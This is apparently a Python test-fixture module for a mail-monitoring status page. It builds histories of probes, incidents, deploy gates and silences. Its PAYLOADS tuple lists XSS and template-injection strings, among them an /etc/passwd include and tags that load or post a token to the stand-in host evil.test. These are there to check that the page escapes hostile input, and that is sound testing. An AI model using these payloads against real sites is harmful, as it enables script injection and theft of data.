"""Histories for the status page, fact by fact: probes behind every route, a house full of trouble, and words that mean harm."""

from __future__ import annotations

from dataclasses import replace

from monitor.model.facts import (
    Accepted,
    Acknowledged,
    Attempted,
    DeployMarked,
    Fact,
    GateDecided,
    GateRequested,
    Judged,
    Noted,
    Paused,
    Silenced,
    SilencePlanned,
    Started,
    Stray,
    WatchBlind,
    WatchRestored,
)
from monitor.model.gate import BUILT_IN, GATE_VERDICT, Because, GateId
from monitor.model.incident import DeployPhase, IncidentId, SilenceId
from monitor.model.instant import Instant
from monitor.model.mail import UNSAID, BlindCause
from monitor.model.policy import Policy
from monitor.model.probe import MailboxName, ProbeId, Purpose, Route
from monitor.model.submission import Reply
from monitor.model.verdict import Reason, Verdict
from tests.surface import happenings as so
from tests.views import life

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</noscript><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><script>window.pwned=1</script>",
    '" onmouseover="window.pwned=1',
    "' onfocus='window.pwned=1' autofocus='",
    "` onerror=window.pwned=1",
    "x onclick=window.pwned=1 y",
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1//",
    "data:text/html,<script>window.pwned=1</script>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=//evil.test></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';*{display:none}</style>",
    "<form action=//evil.test><input name=token></form>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\x00\x1b[31m\r\n<script>window.pwned=1</script>\u2028\u202e",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "<details open ontoggle=window.pwned=1>",
)


def probes(policy: Policy, now: Instant, *, apart: float = 300.0, lost: tuple[str, ...] = (), each: int = 20) -> list[Fact]:
    """`each` on every route, the last one just now; on those that are `lost`, the last three went missing."""
    facts: list[Fact] = [Started(now.plus(-each * apart), "0", "p")]
    facts += [WatchRestored(now.plus(-each * apart), name, 3) for name in policy.mailboxes]
    number = 0
    for nth in range(each):
        for place, route in enumerate(policy.routes):
            number += 1
            sent = now.plus(-apart * (each - 1 - nth) - 4 - place)
            missing = str(route) in lost and nth >= each - 3
            facts += probe(f"{number:012x}", route, sent, Reason.MISSING if missing else Reason.PASS, 0.3 + number * 7 % 11 / 10)
    return facts


def probe(number: str, route: Route, sent: Instant, reason: Reason, transit: float = 1.0, said: str = "") -> list[Fact]:
    key = ProbeId(number)
    good = reason.verdict is Verdict.PASS
    return [
        replace(life.planned(probe=key, route=route), at=sent),
        Attempted(sent, key, 1),
        Accepted(sent, key, 1, Reply(250, "queued")),
        Judged(
            sent.plus(2.0),
            key,
            route,
            Purpose.SCHEDULED,
            0,
            reason.verdict,
            reason,
            said or f"it is {reason.value}",
            (),
            transit_seconds=transit if good else None,
        ),
    ]


def trouble(now: Instant, word: str = "checkout", after: int = 0) -> list[Fact]:
    """Everything that people, peers and pipelines have words in, each of them `word`: incidents open, held, resolved and suspected, with
    all that an incident can have; blindness, strays, deploys, gates, silences, a pause. `after`: facts that the journal has already."""
    said = replace(
        so.DIAGNOSIS,
        summary=f"the app path fails: {word}",
        shows=(word, "app fails: gmail 6/8"),
        said=(word, f"550 5.7.1 {word}"),
        changed=(word,),
        next_step=word,
        against=(word,),
    )
    second, third, fourth = (IncidentId(f"INC-{number}") for number in (2, 3, 4))
    gate = GateId("gate-0123456789ab")
    return [
        DeployMarked(now.plus(-400), word[:60], DeployPhase.START, word, word, word, word),
        DeployMarked(now.plus(-321), word[:60], DeployPhase.FINISH, word, word, word, word),
        so.suspected(now.plus(-90)),
        so.opened(now.plus(-80), diagnosis=said),
        so.notified(now.plus(-79), after + 4),
        so.failed(now.plus(-79), after + 4, "chat"),
        so.opened(now.plus(-60), second, parent=so.INC, cause=so.INC, diagnosis=said),
        Acknowledged(now.plus(-50), second, word, word),
        Noted(now.plus(-49), second, word, word),
        Silenced(now.plus(-48), second, word, word, now.utc + 600),
        so.opened(now.plus(-40), third),
        so.resolved(now.plus(-30), third, note=word),
        so.suspected(now.plus(-20), fourth),
        WatchBlind(now.plus(-15), MailboxName("seed-2"), BlindCause.AUTH_REFUSED, word, word),
        Stray(now.plus(-12), MailboxName("seed-1"), word, "d", "<id@x>", UNSAID, word),
        GateRequested(
            now.plus(-310),
            gate,
            word[:60],
            1,
            BUILT_IN["quick"],
            word,
            (word,),
            (),
            now.plus(-310),
            now.plus(60),
            service=word,
            version=word,
        ),
        GateDecided(now.plus(-300), gate, word[:60], 1, GATE_VERDICT[Because.LOSSES], Because.LOSSES, word, (), ()),
        SilencePlanned(now.plus(-10), SilenceId("SIL-1"), word, word, now.utc - 10, now.utc + 3_000, (so.PATH,)),
        Paused(now.plus(-5), word, word),
    ]
